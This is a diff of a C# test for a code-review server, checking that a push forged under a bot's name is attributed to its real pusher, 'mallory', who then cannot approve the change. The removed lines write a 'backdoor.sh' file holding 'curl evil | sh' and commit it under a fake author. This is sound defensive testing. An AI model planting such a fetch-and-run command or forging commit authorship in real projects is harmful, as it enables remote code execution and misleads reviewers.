@@ -114,20 +114,9 @@ public sealed class LateProtectionTests
     public async Task APushIntoARepositoryWithManyRefs_IsStillAttributed_AndItsPusherMayNotApprove()
     {
         await using var server = await SlipwayTestServer.StartAsync();
-        using (var admin = Admin(server))
-            await Expect(await admin.PostAsync("/api/v1/projects", Body(new { name = "shop", hosted = true })), HttpStatusCode.Created);
-        var alice = await UserWithRoleAsync(server, "alice", BuiltInRoles.Developer, "shop");
-        var mallory = await UserWithRoleAsync(server, "mallory", BuiltInRoles.Developer, "shop");
         using var dir = new TempDirectory("slipway-late-a");
-        var aliceClone = await CloneAsync(Url(server, alice), dir);
-        await GitAsync(aliceClone, "checkout", "--quiet", "-b", "main");
-        await CommitAsync(aliceClone, ".slipway.yml", Pipelines.OneJob("true"), "first");
-        Assert.Equal(0, (await GitAsync(aliceClone, "push", "--quiet", "origin", "main")).ExitCode);
-        await GitAsync(aliceClone, "checkout", "--quiet", "-b", "feature-a");
-        await CommitAsync(aliceClone, "a.txt", "alice's work\n", "alice's feature");
-        Assert.Equal(0, (await GitAsync(aliceClone, "push", "--quiet", "origin", "feature-a")).ExitCode);
-        using var aliceApi = new SlipwayClient(server.Url, alice);
-        var opened = await aliceApi.OpenChangeRequestAsync("shop", new OpenChangeRequestRequest("Feature A", null, "feature-a", "main"));
+        var (aliceApi, change, mallory) = await Hosted.PushedCommitsTests.AliceOpensAChangeAsync(server, dir);
+        using var _ = aliceApi;
 
         // 50 000 tags on distinct root commits, written straight into the hosted repository (pushing them is slow in a test).
         using var mdir = new TempDirectory("slipway-late-m");
@@ -139,19 +128,12 @@ public sealed class LateProtectionTests
         var import = ProcessRunner.Run("/bin/sh", ["-c", "exec \"$0\" fast-import --quiet < \"$1\"", GitRepository.GitPath, file], hosted, null, TimeSpan.FromMinutes(2));
         Assert.True(import.ExitCode == 0, import.StdErr);
 
-        var m = await CloneAsync(Url(server, mallory), mdir);
-        await GitAsync(m, "checkout", "--quiet", "feature-a");
-        await File.WriteAllTextAsync(Path.Combine(m, "backdoor.sh"), "curl evil | sh\n");
-        await GitAsync(m, "add", "backdoor.sh");
-        await GitAsync(m, "commit", "--quiet", "--author", "Build Bot <bot@ci.invalid>", "-m", "chore: tidy");
-        var backdoor = (await GitAsync(m, "rev-parse", "HEAD")).StdOut.Trim();
-        var push = await GitAsync(m, "push", "--quiet", "origin", "feature-a");
-        Assert.True(push.ExitCode == 0, push.StdErr);
+        var backdoor = await Hosted.PushedCommitsTests.ForgedPushAsync(server, mallory, mdir);
 
         using var malloryApi = new SlipwayClient(server.Url, mallory);
-        var shown = await aliceApi.GetChangeRequestAsync("shop", opened.Number);
+        var shown = await aliceApi.GetChangeRequestAsync("shop", change);
         Assert.Equal(["mallory"], shown.Commits.Single(c => c.Sha == backdoor).PushedBy);
-        var refused = await Assert.ThrowsAsync<SlipwayApiException>(() => malloryApi.ReviewChangeRequestAsync("shop", opened.Number, "approve", null));
+        var refused = await Assert.ThrowsAsync<SlipwayApiException>(() => malloryApi.ReviewChangeRequestAsync("shop", change, "approve", null));
         Assert.Contains("mallory pushed commit", refused.Message);
     }
 }
